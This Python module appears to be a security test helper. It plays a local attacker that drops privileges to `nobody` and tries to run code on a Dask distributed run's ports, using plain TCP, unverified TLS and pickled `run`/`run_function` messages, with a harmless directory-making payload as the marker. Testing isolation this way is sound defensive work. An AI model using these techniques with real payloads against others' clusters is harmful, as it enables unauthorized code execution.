"""Another user of the host, who tries to have a run's processes run code of his.

As a program it reads a JSON object from standard input and becomes `nobody`: `ports` to try, a
`folder` in which code that runs makes directories, and perhaps certificates, as PEM texts, under
`trusted`.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import pwd
import socket
import ssl
import subprocess
import sys
import tempfile
from collections.abc import Awaitable, Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import distributed
import psutil
from distributed.core import rpc
from distributed.protocol.pickle import dumps

USER = "nobody"
# Seconds that each attempt may take
_PATIENCE = 10


@dataclass(frozen=True)
class Listening:
    """Where the processes of a run listen."""

    addresses: frozenset[tuple[str, int]]

    @property
    def ports(self) -> list[int]:
        return sorted({port for _, port in self.addresses})

    def http(self) -> set[tuple[str, int]]:
        """Those of the addresses that answer HTTP."""
        return {(host, port) for host, port in self.addresses if _answers_http(port)}


def family(pid: int) -> list[psutil.Process]:
    """A process and all that it has started."""
    process = psutil.Process(pid)
    return [process, *process.children(recursive=True)]


def listening(processes: Iterable[psutil.Process]) -> Listening:
    """Where processes listen for TCP, as root sees it."""
    found = [c for process in processes for c in process.net_connections("inet")]
    heard = frozenset((c.laddr.ip, c.laddr.port) for c in found if c.status == psutil.CONN_LISTEN)
    return Listening(heard)


def attack(ports: Iterable[int], trusted: dict[str, str] | None = None) -> set[str]:
    """What ran: PORT-CREDENTIALS-WAY for each way in.

    Credentials are `plain` for tcp://, `none` for tls:// without a certificate, `own` with one that
    the attacker has made; and `trusted` where `trusted` holds the run's own (`cert` and `key`): a
    control of the attack itself. Ways are a Client's `submit`, `run` and `run_on_scheduler`, and
    the messages `run` (to a worker or nanny) and `run_function` (to a scheduler) without a client.
    """
    with tempfile.TemporaryDirectory() as folder:
        # The victim, who may be another user, makes directories here
        Path(folder).chmod(0o777)
        given = {"ports": sorted(ports), "folder": folder, "trusted": trusted}
        assert given["ports"]
        done = subprocess.run(
            [sys.executable, __file__], input=json.dumps(given),
            capture_output=True, text=True, timeout=240, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout) == {"uid": pwd.getpwnam(USER).pw_uid}
        return {path.name for path in Path(folder).iterdir()}


def _answers_http(port: int) -> bool:
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), _PATIENCE) as asked:
        asked.settimeout(_PATIENCE)
        asked.sendall(b"GET /info/main/workers.html HTTP/1.0\r\n\r\n")
        # A server of Dask's speaks first, and not HTTP
        return asked.recv(5) == b"HTTP/"
    return False


class _Connection(distributed.Security):
    """Speaks TLS without looking at the other's certificate, with one of its own or without."""

    __slots__ = ("certificate",)

    def get_connection_args(self, role: str) -> dict[str, Any]:
        del role
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        if self.certificate is not None:
            context.load_cert_chain(*self.certificate)
        return {"ssl_context": context, "require_encryption": True, "extra_conn_args": {}}


@contextmanager
def _credentials(trusted: dict[str, str] | None) -> Iterator[dict[str, distributed.Security]]:
    made = distributed.Security.temporary().get_tls_config_for_role("client")
    with tempfile.TemporaryDirectory() as own:
        kinds: dict[str, distributed.Security] = {
            "plain": distributed.Security(require_encryption=False)
        }
        for name, texts in {"none": None, "own": made, "trusted": trusted}.items():
            if name == "trusted" and texts is None:
                continue
            kinds[name] = found = _Connection(require_encryption=True)
            found.certificate = None
            if texts is not None:
                found.certificate = [f"{own}/{name}.{kind}" for kind in ("cert", "key")]
                for kind, path in zip(("cert", "key"), found.certificate, strict=True):
                    Path(path).write_text(texts[kind])
        yield kinds


async def _attack(ports: list[int], folder: str, trusted: dict[str, str] | None) -> None:
    with _credentials(trusted) as kinds:
        await asyncio.gather(*(
            way(port, kind, security, f"{folder}/{port}-{kind}")
            for port in ports
            for kind, security in kinds.items()
            for way in (_by_client, _by_messages)
        ))  # fmt: skip


def _address(port: int, kind: str) -> str:
    return f"{'tcp' if kind == 'plain' else 'tls'}://127.0.0.1:{port}"


async def _by_client(port: int, kind: str, security: distributed.Security, mark: str) -> None:
    async def tried() -> None:
        async with distributed.Client(
            _address(port, kind), security=security, asynchronous=True, timeout=_PATIENCE,
            set_as_default=False,
        ) as client:  # fmt: skip
            await asyncio.gather(
                _try(
                    client.run_on_scheduler(os.makedirs, f"{mark}-run_on_scheduler", exist_ok=True)
                ),
                _try(client.run(os.makedirs, f"{mark}-run", exist_ok=True)),
                _try(client.submit(os.makedirs, f"{mark}-submit", exist_ok=True, pure=False)),
            )

    await _try(tried())


async def _by_messages(port: int, kind: str, security: distributed.Security, mark: str) -> None:
    async def send(operation: str) -> None:
        arguments = security.get_connection_args("client")
        async with rpc(
            _address(port, kind), timeout=_PATIENCE, connection_args=arguments
        ) as server:
            await getattr(server, operation)(
                function=dumps(os.makedirs), args=dumps((f"{mark}-message-{operation}",)),
                kwargs=dumps({"exist_ok": True}), wait=True,
            )  # fmt: skip

    await asyncio.gather(*(_try(send(operation)) for operation in ("run", "run_function")))


async def _try(attempt: Awaitable[Any]) -> None:
    """Whatever becomes of it: what ran is seen from what it made."""
    with suppress(Exception):
        await asyncio.wait_for(_awaited(attempt), 2 * _PATIENCE)


async def _awaited(attempt: Awaitable[Any]) -> None:
    await attempt


def main() -> None:
    given = json.load(sys.stdin)
    user = pwd.getpwnam(USER)
    os.setgroups([])
    os.setgid(user.pw_gid)
    os.setuid(user.pw_uid)
    logging.disable()
    asyncio.run(_attack(given["ports"], given["folder"], given["trusted"]))
    json.dump({"uid": os.getuid()}, sys.stdout)


if __name__ == "__main__":
    main()
